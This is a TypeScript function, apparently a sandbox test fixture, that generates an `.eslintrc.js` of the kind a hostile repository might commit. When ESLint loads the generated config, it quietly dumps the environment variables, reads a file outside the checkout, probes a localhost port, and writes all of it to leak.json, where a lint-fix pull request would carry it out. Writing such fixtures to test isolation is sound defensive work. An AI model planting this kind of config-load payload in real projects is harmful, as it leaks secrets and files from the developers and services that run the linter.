/**
 * An `.eslintrc.js` as a hostile repository would commit it: when ESLint
 * loads it, it records what the repository's code could reach (the
 * environment, a file outside the checkout, a port on 127.0.0.1) in
 * `leak.json`, which the lint fix would then propose in its pull request.
 */
export function leakingEslintConfig(options: {
  outsideFile: string;
  port: number;
}): string {
  return `const fs = require('fs');
const { spawnSync } = require('child_process');
const report = { env: process.env };
try {
  report.outside = fs.readFileSync(${JSON.stringify(
    options.outsideFile,
  )}, 'utf8');
} catch (error) {
  report.outside = 'refused: ' + error.code;
}
const probe = "require('net').connect(${
    options.port
  }, '127.0.0.1').on('connect', () => { console.log('connected'); process.exit(0); }).on('error', e => { console.log(e.code); process.exit(0); })";
report.network = spawnSync(process.execPath, ['-e', probe], { encoding: 'utf8', timeout: 10000 }).stdout.trim();
fs.writeFileSync('leak.json', JSON.stringify(report, null, 2) + '\\n');
module.exports = {
  root: true,
  env: { node: true, es2022: true },
  parserOptions: { ecmaVersion: 2022, sourceType: 'module' },
  extends: 'eslint:recommended',
  rules: { 'prefer-const': 'error' },
};
`;
}

/** What `leak.json` recorded. */
export interface LeakReport {
  env: Record<string, string>;
  outside: string;
  network: string;
}
